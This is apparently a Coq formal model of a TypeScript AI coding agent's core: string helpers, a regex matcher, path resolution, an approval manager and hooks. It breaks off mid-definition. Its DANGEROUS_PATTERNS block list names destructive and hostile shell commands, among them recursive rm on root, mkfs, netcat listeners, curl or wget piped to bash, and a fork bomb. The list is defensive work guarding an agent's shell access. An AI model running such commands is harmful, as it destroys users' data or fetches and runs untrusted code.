(** * XL agent core: approval policy, tool dispatch, context management,
      loop detection and the agentic loop.

    A shallow embedding of the TypeScript sources.  JavaScript strings are
    modelled as [string] whose characters are read as code units below 256;
    objects used as dictionaries are [gmap string _]; optional fields are
    [option]; code that throws returns in the [Exc] sum. *)

From stdpp Require Import gmap strings list fin_maps sorting.
From Stdlib Require Import ZArith QArith Qround Ascii String Lia DecimalString.

#[local] Close Scope Q_scope.
#[local] Open Scope string_scope.
#[local] Set Warnings "-register-all".

(** ** JavaScript values *)

Module Js.

Definition nl : string := String (ascii_of_nat 10) EmptyString.
Definition dq : string := String (ascii_of_nat 34) EmptyString.

(** Truthiness of a string: the empty string is falsy. *)
Definition truthyStr (s : string) : bool :=
  match s with EmptyString => false | _ => true end.

(** Truthiness of a possibly-undefined string. *)
Definition truthy (o : option string) : bool :=
  match o with Some s => truthyStr s | None => false end.

(** [a ?? b] on a possibly-undefined value. *)
Definition nullish {A} (o : option A) (d : A) : A :=
  match o with Some a => a | None => d end.

(** [String(n)] for a non-negative integer. *)
Definition ofNat (n : nat) : string := NilEmpty.string_of_uint (Nat.to_uint n).

Definition ofZ (z : Z) : string :=
  match z with
  | Z0 => "0"
  | Zpos p => ofNat (Pos.to_nat p)
  | Zneg p => "-" ++ ofNat (Pos.to_nat p)
  end.

(** [xs.join(sep)] on an array of strings. *)
Fixpoint join (sep : string) (xs : list string) : string :=
  match xs with
  | [] => ""
  | [x] => x
  | x :: rest => x ++ sep ++ join sep rest
  end.

(** JSON-like values as they arrive in tool-call arguments.  Numbers are
    restricted to integers. *)
Inductive Value :=
| VNull
| VBool (b : bool)
| VNum (z : Z)
| VStr (s : string)
| VArr (l : list Value)
| VObj (m : gmap string Value).

(** [String(v)]: arrays join their elements with commas, [null] inside an
    array prints as the empty string, objects print as a fixed tag. *)
Fixpoint toStr (v : Value) : string :=
  match v with
  | VNull => "null"
  | VBool true => "true"
  | VBool false => "false"
  | VNum z => ofZ z
  | VStr s => s
  | VArr l =>
      join "," (List.map (fun x => match x with VNull => "" | _ => toStr x end) l)
  | VObj _ => "[object Object]"
  end.

(** [s.startsWith(p)] *)
Fixpoint startsWith (s p : string) : bool :=
  match p with
  | EmptyString => true
  | String c p' =>
      match s with
      | EmptyString => false
      | String d s' => Ascii.eqb c d && startsWith s' p'
      end
  end.

(** Insertion sort by code-unit order, as [Array.prototype.sort] without a
    comparator orders strings. *)
Fixpoint insertSorted (x : string) (xs : list string) : list string :=
  match xs with
  | [] => [x]
  | y :: ys => if String.leb x y then x :: xs else y :: insertSorted x ys
  end.

Definition sort (xs : list string) : list string :=
  List.fold_right insertSorted [] xs.

(** A thrown exception, carrying [String(error)]. *)
Definition Exc (A : Type) : Type := (string + A)%type.

(** White space and line terminators among the code units below 256, as
    [trim] removes them. *)
Definition isWhiteSpace (c : ascii) : bool :=
  let n := nat_of_ascii c in
  ((9 <=? n)%nat && (n <=? 13)%nat) || (n =? 32)%nat || (n =? 160)%nat.

(** [s.trimStart()] *)
Fixpoint trimStart (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c s' => if isWhiteSpace c then trimStart s' else s
  end.

(** [s.trimEnd()] *)
Fixpoint trimEnd (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c s' =>
      match trimEnd s' with
      | EmptyString => if isWhiteSpace c then EmptyString else String c EmptyString
      | t => String c t
      end
  end.

(** [s.trim()] *)
Definition trim (s : string) : string := trimEnd (trimStart s).

(** The line feed. *)
Definition lf : ascii := ascii_of_nat 10.

(** [s.split(sep)] for a separator of one character. *)
Fixpoint splitChar (sep : ascii) (s : string) : list string :=
  match s with
  | EmptyString => [""]
  | String c s' =>
      if Ascii.eqb c sep then "" :: splitChar sep s'
      else match splitChar sep s' with
           | [] => [String c ""]
           | x :: xs => String c x :: xs
           end
  end.

(** [s.includes(sub)] *)
Fixpoint includes (s sub : string) : bool :=
  Js.startsWith s sub
  || match s with
     | EmptyString => false
     | String _ s' => includes s' sub
     end.

(** [s.toLowerCase()] on code units below 256: the letters A-Z and the
    capital letters of Latin-1. *)
Definition lowerChar (c : ascii) : ascii :=
  let n := nat_of_ascii c in
  if ((65 <=? n)%nat && (n <=? 90)%nat)
     || ((192 <=? n)%nat && (n <=? 222)%nat && negb (n =? 215)%nat)
  then ascii_of_nat (n + 32) else c.

Fixpoint toLowerCase (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c s' => String (lowerChar c) (toLowerCase s')
  end.

(** [s.slice(n)] for a non-negative [n] *)
Fixpoint drop (n : nat) (s : string) : string :=
  match n, s with
  | O, _ => s
  | S n', String _ s' => drop n' s'
  | S _, EmptyString => EmptyString
  end.

(** The first occurrence of a non-empty string: the text before it and
    the text after it. *)
Fixpoint breakAt (sep s : string) : option (string * string) :=
  if Js.startsWith s sep then Some ("", drop (String.length sep) s)
  else match s with
       | EmptyString => None
       | String c s' =>
           match breakAt sep s' with
           | Some (before, after) => Some (String c before, after)
           | None => None
           end
       end.

(** [s.split(sep)] for a non-empty separator; [fuel] bounds the number of
    separators found, and the length of [s] is enough. *)
Fixpoint splitFuel (fuel : nat) (sep s : string) : list string :=
  match breakAt sep s with
  | None => [s]
  | Some (before, after) =>
      match fuel with
      | O => [s]
      | S fuel' => before :: splitFuel fuel' sep after
      end
  end.

Definition split (sep s : string) : list string := splitFuel (String.length s) sep s.

(** The replacement text of [replace] and [replaceAll] for a pattern that
    is a string: [$$] stands for a dollar sign, [$&] for the matched text,
    [$`] and [$'] for the text before and after the match; a pattern that
    is a string has no groups, so any other dollar sign stands for itself. *)
Fixpoint substitution (matched before after template : string) : string :=
  match template with
  | EmptyString => EmptyString
  | String c rest =>
      if Ascii.eqb c "$" then
        match rest with
        | String d rest' =>
            if Ascii.eqb d "$" then "$" ++ substitution matched before after rest'
            else if Ascii.eqb d "&" then matched ++ substitution matched before after rest'
            else if Ascii.eqb d "`" then before ++ substitution matched before after rest'
            else if Ascii.eqb d "'" then after ++ substitution matched before after rest'
            else String c (substitution matched before after rest)
        | EmptyString => String c EmptyString
        end
      else String c (substitution matched before after rest)
  end.

(** [s.replace(pattern, template)] for a non-empty pattern that is a string *)
Definition replace (pattern template s : string) : string :=
  match breakAt pattern s with
  | None => s
  | Some (before, after) => before ++ substitution pattern before after template ++ after
  end.

(** [s.replaceAll(pattern, template)] for a non-empty pattern that is a
    string; [seen] is the part of the whole text that lies before [s]. *)
Fixpoint replaceAllFuel (fuel : nat) (pattern template seen s : string) : string :=
  match breakAt pattern s with
  | None => s
  | Some (before, after) =>
      match fuel with
      | O => s
      | S fuel' =>
          before ++ substitution pattern (seen ++ before) after template
          ++ replaceAllFuel fuel' pattern template (seen ++ before ++ pattern) after
      end
  end.

Definition replaceAll (pattern template s : string) : string :=
  replaceAllFuel (String.length s) pattern template "" s.

Definition cr : ascii := ascii_of_nat 13.

(** Without one carriage return at the end, if there is one. *)
Fixpoint chomp (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c EmptyString => if Ascii.eqb c cr then EmptyString else s
  | String c s' => String c (chomp s')
  end.

Fixpoint chompAllButLast (pieces : list string) : list string :=
  match pieces with
  | [] => []
  | [piece] => [piece]
  | piece :: rest => chomp piece :: chompAllButLast rest
  end.

(** [s.split(/\r?\n/)] *)
Definition splitLines (s : string) : list string :=
  chompAllButLast (Js.splitChar Js.lf s).

(** [s.split(/\s+/)]: the pieces between runs of white space.  [inRun]
    tells whether the character before [s] was white space. *)
Fixpoint splitSpaces (inRun : bool) (s : string) : list string :=
  match s with
  | EmptyString => [""]
  | String c s' =>
      if Js.isWhiteSpace c then
        if inRun then splitSpaces true s' else "" :: splitSpaces true s'
      else match splitSpaces false s' with
           | [] => [String c ""]
           | piece :: rest => String c piece :: rest
           end
  end.

(** An index of [slice] brought into the range of the array: a negative
    one counts from the end. *)
Definition relativeIndex (len : nat) (i : Z) : nat :=
  if (i <? 0)%Z then Z.to_nat (Z.max (Z.of_nat len + i) 0)
  else Nat.min (Z.to_nat i) len.

(** [xs.slice(start, end)] *)
Definition slice {A} (first final : Z) (xs : list A) : list A :=
  let k := relativeIndex (List.length xs) first in
  let e := relativeIndex (List.length xs) final in
  List.firstn (e - k) (List.skipn k xs).

Fixpoint repeatChar (n : nat) (c : ascii) : string :=
  match n with
  | O => EmptyString
  | S n' => String c (repeatChar n' c)
  end.

(** [s.padStart(width, c)] for a filler of one character *)
Definition padStart (width : nat) (c : ascii) (s : string) : string :=
  repeatChar (width - String.length s) c ++ s.

(** [(num / den).toFixed(digits)] for a quotient of non-negative integers
    that a double holds exactly: the nearest multiple of 10^-digits, the
    larger one of two that are equally near. *)
Definition toFixed (digits : nat) (num den : Z) : string :=
  let n := ((2 * num * 10 ^ Z.of_nat digits + den) / (2 * den))%Z in
  let figures := padStart (S digits) "0" (Js.ofZ n) in
  let whole := String.length figures - digits in
  match digits with
  | O => figures
  | _ => String.substring 0 whole figures ++ "." ++ String.substring whole digits figures
  end.

End Js.

(** ** Regular expressions used by the safety patterns *)

Module Regex.

(** The fragment of JavaScript regular expressions that the pattern tables
    use.  Literals and classes are compared ignoring ASCII case (flag [i]);
    there is no multiline flag, so [Bol] and [Eol] hold only at the two ends
    of the input. *)
Inductive re :=
| Chr (c : ascii)
| Space
| AnyChar
| OneOf (cs : list ascii)
| Bol
| Eol
| Eps
| Seq (r1 r2 : re)
| Alt (r1 r2 : re)
| Star (r : re).

Definition Plus (r : re) : re := Seq r (Star r).
Definition Opt (r : re) : re := Alt r Eps.

Fixpoint lit (s : string) : re :=
  match s with
  | EmptyString => Eps
  | String c EmptyString => Chr c
  | String c s' => Seq (Chr c) (lit s')
  end.

Fixpoint alts (l : list string) : re :=
  match l with
  | [] => OneOf []
  | [s] => lit s
  | s :: rest => Alt (lit s) (alts rest)
  end.

Fixpoint seqs (l : list re) : re :=
  match l with
  | [] => Eps
  | [r] => r
  | r :: rest => Seq r (seqs rest)
  end.

Definition lower (c : ascii) : ascii :=
  let n := nat_of_ascii c in
  if (65 <=? n)%nat && (n <=? 90)%nat then ascii_of_nat (n + 32) else c.

Definition ciEqb (a b : ascii) : bool := Ascii.eqb (lower a) (lower b).

(** [\s] on code units below 256. *)
Definition isSpace (c : ascii) : bool :=
  let n := nat_of_ascii c in
  ((9 <=? n)%nat && (n <=? 13)%nat) || (n =? 32)%nat || (n =? 160)%nat.

(** [.] matches everything but line terminators. *)
Definition isLineTerminator (c : ascii) : bool :=
  let n := nat_of_ascii c in (n =? 10)%nat || (n =? 13)%nat.

Definition step (ok : ascii -> bool) (k : bool -> list ascii -> bool)
    (s : list ascii) : bool :=
  match s with
  | [] => false
  | x :: s' => ok x && k false s'
  end.

(** Backtracking matcher in continuation style.  [atStart] tells whether
    the position is the start of the input; the continuation receives the
    position reached. *)
Fixpoint matchRe (r : re) (k : bool -> list ascii -> bool)
    (atStart : bool) (s : list ascii) {struct r} : bool :=
  match r with
  | Chr c => step (ciEqb c) k s
  | Space => step isSpace k s
  | AnyChar => step (fun x => negb (isLineTerminator x)) k s
  | OneOf cs => step (fun x => existsb (ciEqb x) cs) k s
  | Bol => atStart && k atStart s
  | Eol => match s with [] => k atStart s | _ => false end
  | Eps => k atStart s
  | Seq r1 r2 => matchRe r1 (matchRe r2 k) atStart s
  | Alt r1 r2 => matchRe r1 k atStart s || matchRe r2 k atStart s
  | Star r' =>
      (fix loop (n : nat) (b : bool) (t : list ascii) {struct n} : bool :=
         k b t ||
         match n with
         | O => false
         | S n' =>
             matchRe r'
               (fun b' t' => (List.length t' <? List.length t)%nat && loop n' b' t') b t
         end) (List.length s) atStart s
  end.

Fixpoint searchFrom (r : re) (atStart : bool) (s : list ascii) : bool :=
  matchRe r (fun _ _ => true) atStart s ||
  match s with
  | [] => false
  | _ :: s' => searchFrom r false s'
  end.

(** [pattern.test(s)]: some substring of [s] matches. *)
Definition test (r : re) (s : string) : bool :=
  searchFrom r true (list_ascii_of_string s).

End Regex.

(** ** Paths *)

Module Path.

(** Components of a path between slashes. *)
Fixpoint segments (s : string) : list string :=
  match s with
  | EmptyString => [""]
  | String c s' =>
      if Ascii.eqb c "/" then "" :: segments s'
      else match segments s' with
           | [] => [String c ""]
           | x :: xs => String c x :: xs
           end
  end.

(** Walk the components keeping a stack (most recent first): empty and
    [.] components are dropped, [..] pops. *)
Fixpoint normalize (stack : list string) (segs : list string) : list string :=
  match segs with
  | [] => List.rev stack
  | seg :: rest =>
      if String.eqb seg "" || String.eqb seg "." then normalize stack rest
      else if String.eqb seg ".." then normalize (List.tl stack) rest
      else normalize (seg :: stack) rest
  end.

Definition isAbsolute (p : string) : bool := Js.startsWith p "/".

(** Node's [path.resolve(target)] on POSIX, for a process whose current
    directory is the absolute path [procCwd]. *)
Definition resolve (procCwd target : string) : string :=
  let full := if isAbsolute target then target else procCwd ++ "/" ++ target in
  "/" ++ Js.join "/" (normalize [] (segments full)).

(** [path.resolve(base, target)]: an empty argument is skipped. *)
Definition resolve2 (procCwd base target : string) : string :=
  if isAbsolute target then resolve procCwd target
  else if String.eqb base "" then resolve procCwd target
  else resolve procCwd (base ++ "/" ++ target).

(** The position in [s] of the last slash that has a character other than
    a slash somewhere after it, and whether [s] holds such a character. *)
Fixpoint lastSeparator (s : string) : option nat * bool :=
  match s with
  | EmptyString => (None, false)
  | String c s' =>
      let (found, solid) := lastSeparator s' in
      match found with
      | Some i => (Some (S i), true)
      | None =>
          if Ascii.eqb c "/" then (if solid then Some 0 else None, solid)
          else (None, true)
      end
  end.

(** Node's [path.dirname] on POSIX. *)
Definition dirname (p : string) : string :=
  match p with
  | EmptyString => "."
  | String c rest =>
      let hasRoot := Ascii.eqb c "/" in
      match fst (lastSeparator rest) with
      | None => if hasRoot then "/" else "."
      | Some i => if hasRoot && (i =? 0)%nat then "//"
                  else String c (String.substring 0 i rest)
      end
  end.

(** Node's [path.basename] on POSIX: the last component that is not
    empty. *)
Definition basename (p : string) : string :=
  List.last (List.filter (fun seg => negb (String.eqb seg "")) (Path.segments p)) "".

End Path.

(** ** Tool results and confirmation descriptors (tools/base.ts) *)

Module ToolBase.

Abbreviation Params := (gmap string Js.Value).

Record FileDiff := {
  path : string;
  oldContent : string;
  newContent : string;
  isNewFile : bool;
  isDeletion : bool
}.

Record ToolResult := {
  success : bool;
  output : string;
  error : option string;
  metadata : gmap string Js.Value;
  truncated : bool;
  diff : option FileDiff;
  exitCode : option Z
}.

(** [ToolResultFactory.error(error, output, { metadata })] *)
Definition mkError (err : string) (out : string) (meta : gmap string Js.Value)
    : ToolResult :=
  {| success := false; output := out; error := Some err; metadata := meta;
     truncated := false; diff := None; exitCode := None |}.

(** [ToolResultFactory.success(output)] *)
Definition mkSuccess (out : string) : ToolResult :=
  {| success := true; output := out; error := None; metadata := ∅;
     truncated := false; diff := None; exitCode := None |}.

Record ToolInvocation := {
  params : Params;
  cwd : string
}.

Record ToolConfirmation := {
  toolName : string;
  confParams : Params;
  description : string;
  confDiff : option FileDiff;
  affectedPaths : option (list string);
  command : option string;
  isDangerous : option bool
}.

End ToolBase.

(** ** Approval manager (safety/approval.ts) *)

Module Approval.
Import Regex ToolBase.

Inductive ApprovalPolicy :=
| ON_REQUEST | ON_FAILURE | AUTO | AUTO_EDIT | NEVER | YOLO.

Inductive ApprovalDecision :=
| APPROVED | REJECTED | NEEDS_CONFIRMATION.

Definition policy_eqb (a b : ApprovalPolicy) : bool :=
  match a, b with
  | ON_REQUEST, ON_REQUEST | ON_FAILURE, ON_FAILURE | AUTO, AUTO
  | AUTO_EDIT, AUTO_EDIT | NEVER, NEVER | YOLO, YOLO => true
  | _, _ => false
  end.

Record ApprovalContext := {
  ctxToolName : string;
  ctxParams : Params;
  isMutating : bool;
  ctxAffectedPaths : list string;
  ctxCommand : option string;
  ctxIsDangerous : option bool
}.

Definition sp : re := Plus Space.
Definition sps : re := Star Space.
Definition rootOrHome : re := OneOf ["/"; "~"]%char.
Definition bashOrSh : re := alts ["bash"; "sh"].

Definition DANGEROUS_PATTERNS : list re :=
  [ seqs [lit "rm"; sp; Alt (Seq (lit "-r") (Opt (lit "f"))) (lit "--recursive");
          sp; rootOrHome];
    seqs [lit "rm"; sp; lit "-r"; Opt (lit "f"); sp; lit "*"];
    seqs [lit "rmdir"; sp; rootOrHome];
    seqs [lit "dd"; sp; lit "if="];
    lit "mkfs";
    lit "fdisk";
    lit "parted";
    lit "shutdown";
    lit "reboot";
    lit "halt";
    lit "poweroff";
    seqs [lit "init"; sp; OneOf ["0"; "6"]%char];
    seqs [lit "chmod"; sp; Opt (Seq (lit "-R") sp); lit "777"; sp; rootOrHome];
    seqs [lit "chown"; sp; lit "-R"; sp; Star AnyChar; sp; rootOrHome];
    seqs [lit "nc"; sp; lit "-l"];
    seqs [lit "netcat"; sp; lit "-l"];
    seqs [lit "curl"; sp; Star AnyChar; lit "|"; sps; bashOrSh];
    seqs [lit "wget"; sp; Star AnyChar; lit "|"; sps; bashOrSh];
    seqs [lit ":()"; sps; lit "{"; sps; lit ":|:&"; sps; lit "}"; sps; lit ";"] ].

Definition wordEnd : re := Alt Space Eol.

Definition SAFE_PATTERNS : list re :=
  [ seqs [Bol; alts ["ls"; "dir"; "pwd"; "cd"; "echo"; "cat"; "head"; "tail";
                     "less"; "more"; "wc"]; wordEnd];
    seqs [Bol; alts ["find"; "locate"; "which"; "whereis"; "file"; "stat"]; wordEnd];
    seqs [Bol; lit "git"; sp;
          alts ["status"; "log"; "diff"; "show"; "branch"; "remote"; "tag"]; wordEnd];
    seqs [Bol; alts ["npm"; "yarn"; "pnpm"]; sp; alts ["list"; "ls"; "outdated"];
          wordEnd];
    seqs [Bol; lit "pip"; sp; alts ["list"; "show"; "freeze"]; wordEnd];
    seqs [Bol; lit "cargo"; sp; alts ["tree"; "search"]; wordEnd];
    seqs [Bol; alts ["grep"; "awk"; "sed"; "cut"; "sort"; "uniq"; "tr"; "diff";
                     "comm"]; wordEnd];
    seqs [Bol; alts ["date"; "cal"; "uptime"; "whoami"; "id"; "groups"; "hostname";
                     "uname"]; wordEnd];
    seqs [Bol; alts ["env"; "printenv"; "set"]; Eol];
    seqs [Bol; alts ["ps"; "top"; "htop"; "pgrep"]; wordEnd] ].

Definition isDangerousCommand (command : string) : bool :=
  existsb (fun pattern => test pattern command) DANGEROUS_PATTERNS.

Definition isSafeCommand (command : string) : bool :=
  existsb (fun pattern => test pattern command) SAFE_PATTERNS.

(** The manager is generic in the type of its confirmation callback, which
    talks to the human at the terminal. *)
Record ApprovalManager {Callback : Type} := {
  approvalPolicy : ApprovalPolicy;
  amCwd : string;
  confirmationCallback : option Callback
}.
Arguments ApprovalManager : clear implicits.

Section Manager.
Context {Callback : Type}.
(** [path.resolve] of the running process. *)
Variable resolve : string -> string.
Variable am : ApprovalManager Callback.

Definition assessCommandSafety (command : string) : ApprovalDecision :=
  if policy_eqb (approvalPolicy am) YOLO then APPROVED
  else if isDangerousCommand command then REJECTED
  else if policy_eqb (approvalPolicy am) NEVER then
    (if isSafeCommand command then APPROVED else REJECTED)
  else if policy_eqb (approvalPolicy am) AUTO
          || policy_eqb (approvalPolicy am) ON_FAILURE then APPROVED
  else if policy_eqb (approvalPolicy am) AUTO_EDIT then
    (if isSafeCommand command then APPROVED else NEEDS_CONFIRMATION)
  else
    (if isSafeCommand command then APPROVED else NEEDS_CONFIRMATION).

(** The test applied to each affected path. *)
Definition escapes (target : string) : bool :=
  negb (Js.startsWith (resolve target) (resolve (amCwd am))).

(** The command check: a verdict other than needs-confirmation is
    returned at once. *)
Definition commandVerdict (context : ApprovalContext) : option ApprovalDecision :=
  match ctxCommand context with
  | Some command =>
      if Js.truthyStr command then
        match assessCommandSafety command with
        | NEEDS_CONFIRMATION => None
        | decision => Some decision
        end
      else None
  | None => None
  end.

Definition checkApproval (context : ApprovalContext) : ApprovalDecision :=
  if negb (isMutating context) then APPROVED
  else
    match commandVerdict context with
    | Some decision => decision
    | None =>
        if existsb escapes (ctxAffectedPaths context) then NEEDS_CONFIRMATION
        else if Js.nullish (ctxIsDangerous context) false then
          (if policy_eqb (approvalPolicy am) YOLO then APPROVED
           else NEEDS_CONFIRMATION)
        else APPROVED
    end.

End Manager.

End Approval.


(** ** Data exchanged with the model client, hooks and snapshots *)

Module Data.
Import ToolBase.

(** client/response.ts *)
Record TokenUsage := {
  promptTokens : N;
  completionTokens : N;
  totalTokens : N;
  cachedTokens : N
}.

Definition zeroUsage : TokenUsage :=
  {| promptTokens := 0; completionTokens := 0; totalTokens := 0; cachedTokens := 0 |}%N.

Definition addUsage (a b : TokenUsage) : TokenUsage :=
  {| promptTokens := promptTokens a + promptTokens b;
     completionTokens := completionTokens a + completionTokens b;
     totalTokens := totalTokens a + totalTokens b;
     cachedTokens := cachedTokens a + cachedTokens b |}%N.

Inductive StreamEventType :=
| TEXT_DELTA | MESSAGE_COMPLETE | ERROR
| TOOL_CALL_START | TOOL_CALL_DELTA | TOOL_CALL_COMPLETE.

Record ToolCall := {
  callId : string;
  tcName : option string;
  tcArguments : option Params
}.

Record StreamEvent := {
  evType : StreamEventType;
  textDelta : option string;
  evError : option string;
  toolCall : option ToolCall;
  usage : option TokenUsage
}.

(** What an asynchronous event generator delivers when drained: the events
    it yields and, possibly, the exception that ends it. *)
Record Stream := {
  events : list StreamEvent;
  thrown : option string
}.

(** One entry of [getMessages()], the shape sent to the model and stored in a
    snapshot. *)
Record FunctionRef := {
  fnName : option string;
  fnArguments : option string
}.

(** A tool-call request as stored on an assistant message. *)
Record ToolCallRef := {
  tcrId : string;
  tcrType : string;
  function : option FunctionRef
}.

Record Payload := {
  pRole : string;
  tool_call_id : option string;
  tool_calls : option (list ToolCallRef);
  pContent : option string
}.

Record ToolSchema := {
  schemaName : string;
  schemaDescription : string;
  schemaRequired : list string
}.

(** config/config.ts *)
Inductive HookTrigger :=
| BEFORE_AGENT | AFTER_AGENT | BEFORE_TOOL | AFTER_TOOL | ON_ERROR.

Definition trigger_eqb (a b : HookTrigger) : bool :=
  match a, b with
  | BEFORE_AGENT, BEFORE_AGENT | AFTER_AGENT, AFTER_AGENT
  | BEFORE_TOOL, BEFORE_TOOL | AFTER_TOOL, AFTER_TOOL | ON_ERROR, ON_ERROR => true
  | _, _ => false
  end.

Record HookConfig := {
  hookName : string;
  trigger : HookTrigger;
  hookCommand : option string;
  script : option string;
  timeoutSec : nat;
  enabled : bool
}.

(** The environment variables a hook receives. *)
Record HookEnv := {
  AI_AGENT_TRIGGER : HookTrigger;
  AI_AGENT_CWD : string;
  AI_AGENT_TOOL_NAME : option string;
  AI_AGENT_USER_MESSAGE : option string;
  AI_AGENT_TOOL_PARAMS : option Params;
  AI_AGENT_TOOL_RESULT : option string;
  AI_AGENT_RESPONSE : option string
}.

(** agent/events.ts *)
Inductive AgentEvent :=
| agentStart (message : string)
| agentEnd (response : option string)
| textDeltaEv (content : string)
| textComplete (content : string)
| toolCallStart (callId name : string) (arguments : Params)
| toolCallComplete (callId name : string) (result : ToolResult)
| agentError (error : string).

End Data.

(** ** The world outside the agent *)

(** Everything the agent reaches through Node, through third-party
    libraries, or through the prompt builders of prompts/system.ts, which
    are taken as given: the tokenizer, the clock, the process that runs hook
    commands, the model provider, [JSON.stringify] and the prompt texts. *)
Class Env := {
  (** file system, child processes, network, provider and terminal *)
  Ext : Type;
  (** [process.cwd()] *)
  procCwd : string;
  (** [getTokenizer(model).encode(text).length]; [None] when the tokenizer
      throws.  The text is [None] when the caller passes [undefined]. *)
  encode : string -> option string -> option N;
  (** [new Date()] *)
  clock : Ext -> nat;
  (** running one hook command or script; its failures are swallowed *)
  runHookCommand : Data.HookConfig -> Data.HookEnv -> Ext -> Ext;
  (** [client.chatCompletion(messages, tools, stream)] drained *)
  chatCompletion :
    list Data.Payload -> option (list Data.ToolSchema) -> bool -> Ext -> Data.Stream * Ext;
  (** [fs.mkdirSync(target, { recursive: true })]; [Some e] when it throws *)
  mkdirSync : string -> Ext -> option string * Ext;
  JSON_stringify : Js.Value -> string;
  (** [String(n)] for a number [n] that is not a whole number below 10^21:
      the shortest decimal text that reads back as [n] *)
  Number_toString : Q -> string;
  getCompressionPrompt : string;
  createLoopBreakerPrompt : string -> string
}.

(** ** State and exceptions *)

Module Eff.

Definition M (S A : Type) : Type := S -> Js.Exc A * S.

Definition ret {S A} (a : A) : M S A := fun s => (inr a, s).

Definition bind {S A B} (m : M S A) (k : A -> M S B) : M S B :=
  fun s => match m s with
           | (inl e, s') => (inl e, s')
           | (inr a, s') => k a s'
           end.

Definition throw {S A} (e : string) : M S A := fun s => (inl e, s).

(** [try { m } catch (error) { h(String(error)) }] *)
Definition tryCatch {S A} (m : M S A) (h : string -> M S A) : M S A :=
  fun s => match m s with
           | (inl e, s') => h e s'
           | r => r
           end.

Definition gets {S A} (f : S -> A) : M S A := fun s => (inr (f s), s).
Definition modify {S} (f : S -> S) : M S unit := fun s => (inr tt, f s).

(** A computation that only throws or returns. *)
Definition liftExc {S A} (x : Js.Exc A) : M S A := fun s => (x, s).

(** Run a computation on a component of the state. *)
Definition zoom {S T A} (get : S -> T) (set : T -> S -> S) (m : M T A) : M S A :=
  fun s => let (r, t') := m (get s) in (r, set t' s).

Fixpoint forEach {S A} (xs : list A) (body : A -> M S unit) : M S unit :=
  match xs with
  | [] => ret tt
  | x :: rest => bind (body x) (fun _ => forEach rest body)
  end.

Definition bindExc {A B} (x : Js.Exc A) (k : A -> Js.Exc B) : Js.Exc B :=
  match x with
  | inl e => inl e
  | inr a => k a
  end.

End Eff.

Declare Scope eff_scope.
Delimit Scope eff_scope with eff.
Notation "'let*' x ':=' m 'in' k" := (Eff.bind m (fun x => k))
  (at level 10, x name, m at level 100, k at level 200) : eff_scope.
Notation "'run' m 'in' k" := (Eff.bind m (fun _ => k))
  (at level 10, m at level 100, k at level 200) : eff_scope.
Declare Scope exc_scope.
Delimit Scope exc_scope with exc.
Notation "'let*' x ':=' m 'in' k" := (Eff.bindExc m (fun x => k))
  (at level 10, x name, m at level 100, k at level 200) : exc_scope.

#[local] Open Scope eff_scope.

(** ** Hook system (hooks/hookSystem.ts) *)

Module Hooks.
Import ToolBase Data Eff.

Section WithEnv.
Context `{Env}.

(** What the run leaves behind outside the agent: each call of a trigger
    method and each hook command started, in order. *)
Inductive Effect :=
| Triggered (t : HookTrigger) (tool : option string) (result : option ToolResult)
| HookRan (hook : HookConfig) (env : HookEnv).

Record World := {
  ext : Ext;
  trace : list Effect
}.

(** Code of a tool or of the terminal acts on the outside world only. *)
Definition onExt {A} (m : M Ext A) : M World A :=
  zoom ext (fun e w => {| ext := e; trace := trace w |}) m.

(** The calls of [triggerAfterTool] recorded in a trace, with the tool name
    and the result passed. *)
Fixpoint afterToolCalls (tr : list Effect) : list (string * ToolResult) :=
  match tr with
  | [] => []
  | Triggered AFTER_TOOL (Some tool) (Some result) :: rest =>
      (tool, result) :: afterToolCalls rest
  | _ :: rest => afterToolCalls rest
  end.

Definition emit (e : Effect) : M World unit :=
  modify (fun w => {| ext := ext w; trace := (trace w ++ [e])%list |}).

(** The hooks kept by the constructor are the enabled ones. *)
Record HookSystem := {
  hsCwd : string;
  hooks : list HookConfig
}.

Definition newHookSystem (cwd : string) (hooksEnabled : bool)
    (configured : list HookConfig) : HookSystem :=
  {| hsCwd := cwd;
     hooks := if hooksEnabled then List.filter enabled configured else [] |}.

(** [runHook]: the command or the script is run and any error is logged and
    dropped. *)
Definition runHook (hook : HookConfig) (env : HookEnv) : M World unit :=
  run emit (HookRan hook env) in
  modify (fun w => {| ext := runHookCommand hook env (ext w); trace := trace w |}).

Definition buildEnv (hs : HookSystem) (t : HookTrigger) (toolName : option string)
    (userMessage : option string) : HookEnv :=
  {| AI_AGENT_TRIGGER := t;
     AI_AGENT_CWD := hsCwd hs;
     AI_AGENT_TOOL_NAME := if Js.truthy toolName then toolName else None;
     AI_AGENT_USER_MESSAGE := if Js.truthy userMessage then userMessage else None;
     AI_AGENT_TOOL_PARAMS := None;
     AI_AGENT_TOOL_RESULT := None;
     AI_AGENT_RESPONSE := None |}.

Definition runMatching (hs : HookSystem) (t : HookTrigger) (env : HookEnv)
    : M World unit :=
  forEach (hooks hs)
    (fun hook => if trigger_eqb (trigger hook) t then runHook hook env else ret tt).

(** The text a tool result is reported with, to hooks and to the model. *)
Definition resultText (r : ToolResult) : string :=
  if success r then output r
  else "Error: " ++ Js.nullish (error r) "null" ++ Js.nl ++ Js.nl
       ++ "Output:" ++ Js.nl ++ output r.

Definition withTool (env : HookEnv) (toolParams : Params) (res : option string)
    : HookEnv :=
  {| AI_AGENT_TRIGGER := AI_AGENT_TRIGGER env;
     AI_AGENT_CWD := AI_AGENT_CWD env;
     AI_AGENT_TOOL_NAME := AI_AGENT_TOOL_NAME env;
     AI_AGENT_USER_MESSAGE := AI_AGENT_USER_MESSAGE env;
     AI_AGENT_TOOL_PARAMS := Some toolParams;
     AI_AGENT_TOOL_RESULT := res;
     AI_AGENT_RESPONSE := AI_AGENT_RESPONSE env |}.

Definition triggerBeforeAgent (hs : HookSystem) (userMessage : string) : M World unit :=
  run emit (Triggered BEFORE_AGENT None None) in
  runMatching hs BEFORE_AGENT (buildEnv hs BEFORE_AGENT None (Some userMessage)).

Definition triggerAfterAgent (hs : HookSystem) (userMessage : string)
    (agentResponse : option string) : M World unit :=
  let env := buildEnv hs AFTER_AGENT None (Some userMessage) in
  let env' :=
    {| AI_AGENT_TRIGGER := AI_AGENT_TRIGGER env;
       AI_AGENT_CWD := AI_AGENT_CWD env;
       AI_AGENT_TOOL_NAME := AI_AGENT_TOOL_NAME env;
       AI_AGENT_USER_MESSAGE := AI_AGENT_USER_MESSAGE env;
